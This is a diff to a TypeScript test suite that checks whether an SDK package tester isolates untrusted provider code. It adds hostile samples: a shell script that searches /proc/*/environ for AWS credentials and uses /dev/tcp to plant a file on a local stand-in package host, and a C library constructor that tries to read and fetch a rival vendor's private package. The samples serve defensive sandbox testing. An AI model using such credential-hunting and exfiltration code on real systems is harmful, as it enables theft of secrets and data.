@@ -5,7 +5,10 @@
  */
 import { createHash } from 'node:crypto';
 import { existsSync, mkdtempSync } from 'node:fs';
-import { copyFile, readFile, writeFile } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { chmod, copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { arch, platform, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
@@ -49,6 +52,8 @@ interface FakeSdk {
   readonly dependencies?: Record<string, string>;
   /** Body of `lockstep-checks.sh`, if the SDK ships one. */
   readonly checks?: string;
+  /** C source of a static library the SDK ships as `lib/lib<name>.a` (compiled here with cc). */
+  readonly library?: string;
   /** Breaks the package after conversion: the manifest lists a file that is not there. */
   readonly broken?: boolean;
   /** Staged, but gone from storage when the tester downloads it. */
@@ -64,6 +69,13 @@ async function stage(sdk: FakeSdk): Promise<TestPlan['packages'][number]> {
   const input = join(dir, `${sdk.name}-input.zip`);
   const entries: { name: string; data: Buffer }[] = [{ name: `include/${sdk.name}.h`, data: Buffer.from(`#pragma once\nint ${sdk.name.replace(/\W/g, '_')}_version(void);\n`) }];
   if (sdk.checks !== undefined) entries.push({ name: 'lockstep-checks.sh', data: Buffer.from(sdk.checks) });
+  if (sdk.library !== undefined) {
+    const source = join(dir, `${sdk.name}.c`);
+    await writeFile(source, sdk.library);
+    execFileSync('cc', ['-c', source, '-o', join(dir, `${sdk.name}.o`)]);
+    execFileSync('ar', ['rcs', join(dir, `lib${sdk.name}.a`), join(dir, `${sdk.name}.o`)]);
+    entries.push({ name: `lib/lib${sdk.name}.a`, data: await readFile(join(dir, `lib${sdk.name}.a`)) });
+  }
   if (sdk.broken === true) entries.push({ name: 'README.md', data: Buffer.from('readme\n') });
   entries.push(...(sdk.files ?? []));
   await writeFile(input, buildZip(entries));
@@ -113,12 +125,97 @@ describe('provider code runs without the tester\'s credentials', () => {
     expect(names.filter((n) => n!.startsWith('AWS_') || n!.startsWith('CODEBUILD_'))).toEqual([]);
     expect(printed.join('\n')).not.toMatch(/fake-secret|fake-session|AKIAFAKE|credentials\/fake/);
     expect(names).not.toContain('LOCKSTEP_SDK_TEST_PLAN');
+    // A scratch home in the tester's sandbox folder (outside the work folder, whose parents nobody cannot reach).
     const home = printed.find((l) => l.startsWith('HOME='))!.slice(5);
-    expect(home.startsWith(join(dir, 'work'))).toBe(true);
+    expect(home).toMatch(new RegExp(`^${tmpdir()}/lockstep-sandbox-[^/]+/scratch/home$`));
     const cwd = printed.find((l) => l.startsWith('cwd='))!.slice(4);
     const sdkDir = printed.find((l) => l.startsWith('LOCKSTEP_SDK_DIR='))!.slice('LOCKSTEP_SDK_DIR='.length);
     expect(cwd.startsWith(sdkDir)).toBe(false);
     expect(results.passed).toBe(true);
+  });
+});
+
+describe('provider code is isolated: no route to credentials or the package host (issue 14 item 17, issue 9 item 20)', () => {
+  // What a hostile provider tries: find the tester's credentials in its ancestors' environment, then put a file
+  // on the package host through its write path (an HTTP server here stands for local mode's S3).
+  let server: Server;
+  let requests: string[];
+  let port: number;
+  beforeEach(async () => {
+    requests = [];
+    server = createServer((req, res) => {
+      requests.push(`${req.method} ${req.url}`);
+      res.end('ok');
+    });
+    port = await new Promise<number>((ok) => server.listen(0, '127.0.0.1', () => ok((server.address() as AddressInfo).port)));
+    Object.assign(process.env, { AWS_ACCESS_KEY_ID: 'AKIAHOSTILETESTKEY', AWS_SECRET_ACCESS_KEY: 'hostile-test-secret', AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${port}` });
+  });
+  afterEach(() => new Promise<void>((ok) => server.close(() => ok())));
+
+  const hostileChecks = () => `
+found=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|AWS_ENDPOINT_URL_S3)=' | sort -u | tr '\\n' ' ')
+echo "credentials found: \${found:-none}"
+if ! exec 3<>/dev/tcp/127.0.0.1/${port}; then echo "no route to the package host"; exit 1; fi
+printf 'PUT /lockstep-package-host/public/planted/6.6.6/planted.txt HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 7\r\nConnection: close\r\n\r\nplanted' >&3
+cat <&3
+exit 0
+`;
+
+  (platform() === 'linux' ? it : it.skip)('a checks script that hunts for credentials in /proc and plants a file on the package host fails, and nothing is planted', async () => {
+    const { results, lines, check } = await test([{ name: 'planter', checks: hostileChecks() }]);
+    const output = lines.filter((l) => l.startsWith('[planter checks] ')).join('\n');
+    expect(output).toContain('credentials found: none');
+    expect(output).not.toMatch(/AKIAHOSTILE|hostile-test-secret/);
+    expect(check('planter', 'checks-script')).toMatchObject({ passed: false });
+    expect(check('planter', 'checks-script')?.message).toContain('no route to the package host');
+    expect(requests).toEqual([]);
+    expect(results.passed).toBe(false);
+  });
+
+  (platform() === 'linux' ? it : it.skip)('a hostile sample app cannot read another vendor\'s package, in the tester\'s files or over the network', async () => {
+    // Another vendor's private package where local mode keeps it: in a data folder only the tester's user reads.
+    const data = join(dir, 'data');
+    await mkdir(join(data, 's3', 'lockstep-package-host', 'private', 'rival', '1.0.0'), { recursive: true });
+    const secret = join(data, 's3', 'lockstep-package-host', 'private', 'rival', '1.0.0', 'rival-1.0.0.zip');
+    await writeFile(secret, 'the rival vendor\'s private package');
+    await chmod(data, 0o700);
+    const library = [
+      '#include <fcntl.h>',
+      '#include <stdio.h>',
+      '#include <stdlib.h>',
+      '#include <unistd.h>',
+      '#include <netinet/in.h>',
+      '#include <arpa/inet.h>',
+      '#include <sys/socket.h>',
+      '__attribute__((constructor)) static void steal(void) {',
+      `  int file = open("${secret}", O_RDONLY);`,
+      '  int s = socket(AF_INET, SOCK_STREAM, 0);',
+      `  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(${port}) };`,
+      '  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);',
+      '  int connected = connect(s, (struct sockaddr *)&to, sizeof to) == 0;',
+      '  if (connected) { const char *get = "GET /lockstep-package-host/private/rival/1.0.0/rival-1.0.0.zip HTTP/1.0\\r\\n\\r\\n"; write(s, get, 70); }',
+      '  printf("file %s, network %s\\n", file >= 0 ? "READ" : "refused", connected ? "REACHED" : "unreachable");',
+      '  exit(file >= 0 || connected ? 42 : 7);',
+      '}',
+      'int thief_version(void) { return 1; }',
+    ].join('\n');
+    const { check } = await test([{ name: 'thief', platform: LINUX_HERE, library }], [], 'cc');
+    const sampleApp = check('thief', 'sample-app');
+    // The constructor ran (exit 7 is its own) and found neither the file nor the network.
+    expect(sampleApp?.message).toContain('exited with 7');
+    expect(sampleApp?.message).toContain('file refused, network unreachable');
+    expect(requests).toEqual([]);
+  });
+
+  it('refuses to run provider code it cannot isolate, rather than run it with its own privileges', async () => {
+    const { sandboxIsolation } = await import('../../../lambdas/sdk/tester/tester');
+    const isolation = await sandboxIsolation();
+    if (isolation.ok) {
+      expect(isolation.prefix).toEqual(expect.arrayContaining(['unshare', '--net', 'setpriv', '--reuid=65534', '--no-new-privs']));
+      expect(isolation.network).toBe('none');
+    } else {
+      expect(isolation.refusal).toMatch(/^provider code not run: the tester cannot isolate it here/);
+    }
   });
 });
 
